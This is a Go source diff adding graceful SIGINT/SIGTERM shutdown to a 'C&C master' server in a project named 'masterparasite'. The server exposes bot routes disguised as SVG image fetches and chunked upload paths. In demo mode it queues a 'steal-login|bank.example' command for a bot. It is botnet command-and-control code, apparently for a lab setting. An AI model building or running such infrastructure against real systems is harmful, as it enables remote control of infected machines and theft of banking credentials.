@@ -12,6 +12,8 @@ import (
 	"net"
 	"net/http"
 	"os"
+	"os/signal"
+	"syscall"
 	"time"
 
 	"masterparasite/internal/cnc"
@@ -34,6 +36,10 @@ func run(args []string) error {
 		return err
 	}
 
+	// Catch SIGINT/SIGTERM before listening, so a signal that lands
+	// during start-up drains the server instead of killing the process.
+	sigCtx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
+	defer stop()
 	m := cnc.NewMasterServer()
 	ln, err := net.Listen("tcp", *listen)
 	if err != nil {
@@ -43,11 +49,11 @@ func run(args []string) error {
 	fmt.Printf("C&C master listening on %s\n", base)
 	fmt.Println("routes: /meta/{bot}.svg  /img/{bot}/{id}/{seq}.svg  /up/{bot}/{stream}/{seq}/{chunk}")
 
-	srv := &http.Server{Handler: m, ReadHeaderTimeout: 5 * time.Second}
+	srv := &http.Server{Handler: m, ReadHeaderTimeout: daemon.ReadHeaderTimeout}
 	if !*demo {
 		// Serve until SIGINT/SIGTERM, then let in-flight polls and
 		// uploads finish before exiting (same helper as cmd/labd).
-		return daemon.Serve(srv, ln, *drain)
+		return daemon.Serve(sigCtx, srv, ln, *drain)
 	}
 
 	done := make(chan struct{})
@@ -60,7 +66,7 @@ func run(args []string) error {
 		<-done
 	}()
 
-	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	ctx, cancel := context.WithTimeout(sigCtx, 30*time.Second)
 	defer cancel()
 	id := m.QueueCommand("demo-bot", []byte("steal-login|bank.example"))
 	fmt.Printf("queued command %d for demo-bot\n", id)
